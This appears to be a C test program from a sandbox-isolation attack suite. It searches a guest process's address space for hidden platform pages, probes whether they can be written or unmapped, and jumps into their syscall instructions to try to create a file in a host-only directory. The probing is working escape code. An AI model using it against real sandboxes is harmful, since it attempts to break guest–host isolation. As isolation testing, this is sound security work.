/* The pages that the platform keeps in each address space: found, read, jumped into. Argument: a file to be made in a
   directory that only the host has. Prints what it saw; there are no such pages natively. */
#include "attack.h"
#include <setjmp.h>
#include <sys/time.h>
#include <sys/utsname.h>
#include <ucontext.h>

#define BLOCK 0x200000UL
static sigjmp_buf back;
static void bounce(int signo) { siglongjmp(back, signo); }
static void catch(void (*handler)(int)) {
  struct sigaction action = { .sa_handler = handler, .sa_flags = SA_NODEFER };
  int signals[] = { SIGSEGV, SIGBUS, SIGTRAP, SIGILL, SIGALRM };
  for (int i = 0; i < 5; i++) sigaction(signals[i], &action, NULL);
}
static int touches(volatile unsigned char *at, int write) {
  if (sigsetjmp(back, 1)) return 0;
  if (write) *at = *at; else (void)*at;
  return 1;
}

static struct utsname seen;
/* What the registers were when something ended the jump. */
static void arrived(int signo, siginfo_t *info, void *context) {
  struct utsname own;
  uname(&own);
  _exit(!strcmp(seen.nodename, own.nodename) ? 7 : seen.nodename[0] ? 1 : 0);
}
/* rax: the call; rdi, rsi, rdx: its arguments. */
static void jump(void *at, long call, long a, long b, long c) {
  static char stack[65536];
  struct sigaction action = { .sa_sigaction = arrived, .sa_flags = SA_SIGINFO | SA_ONSTACK };
  stack_t alternative = { .ss_sp = stack, .ss_size = sizeof stack };
  int signals[] = { SIGSEGV, SIGBUS, SIGTRAP, SIGILL, SIGALRM };
  sigaltstack(&alternative, NULL);
  for (int i = 0; i < 5; i++) sigaction(signals[i], &action, NULL);
  /* Some ways lead to a pause(). */
  setitimer(ITIMER_REAL, &(struct itimerval){ .it_value = { 0, 100000 } }, NULL);
  __asm__ volatile(
    "mov $1, %%r12\n mov $8, %%rbx\n mov %%rcx, %%r11\n jmp *%%r11"
    : : "a"(call), "D"(a), "S"(b), "d"(c), "c"(at) : "rbx", "r11", "r12", "memory");
}
static int outcome(void *at, long call, long a, long b, long c) {
  int status;
  pid_t pid = fork();
  if (pid == 0) jump(at, call, a, b, c), _exit(2);
  waitpid(pid, &status, 0);
  return WIFEXITED(status) ? WEXITSTATUS(status) : 1000 + WTERMSIG(status);
}

int main(int argc, char **argv) {
  unsigned char *area = NULL;
  catch(bounce);
  for (unsigned long at = 0x7fffffe00000UL - BLOCK; !area && at > 0x7fff00000000UL - 0x10000000000UL; at -= BLOCK)
    if (touches((void *)at, 0)) {
      /* The stack is the guest's own. */
      unsigned char local, *block = (void *)at;
      if (!(&local >= block && &local < block + BLOCK)) area = block;
    }
  if (!area) return puts("no hidden pages"), 0;
  puts("hidden pages");
  int writable = 0, calls = 0, caught = 0;
  for (int page = 0; page < 5; page++) writable += touches(area + page * 4096, 1);
  printf("writable: %d\n", writable);
  printf("munmap %d, mprotect %d, mremap %d, map over it %d\n", munmap(area, 4096), mprotect(area, 4096, 7),
    mremap(area, 4096, 4096, 3, (void *)0x10000000) == MAP_FAILED ? -1 : 0,
    mmap(area, 4096, 7, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0) == MAP_FAILED ? -1 : 0);
  for (int at = 0; at < 4095; at++) {
    if (area[at] != 0x0f || area[at + 1] != 0x05) continue;
    calls++;
    /* Answered by the guest's kernel, whose name for the machine it is. */
    caught += outcome(area + at, SYS_uname, (long)&seen, 0, 0) == 7;
    outcome(area + at, SYS_creat, (long)argv[1], 0644, 0);
  }
  printf("syscall instructions: %s, answered by the guest's kernel: %s\n", calls ? "some" : "none",
    caught == calls ? "all" : "not all");
  /* From each byte of the code: what comes of that the host has to say. */
  for (int at = 0; at < 160; at++) outcome(area + at, SYS_creat, (long)argv[1], 0644, 0);
  puts("alive");
  return 0;
}
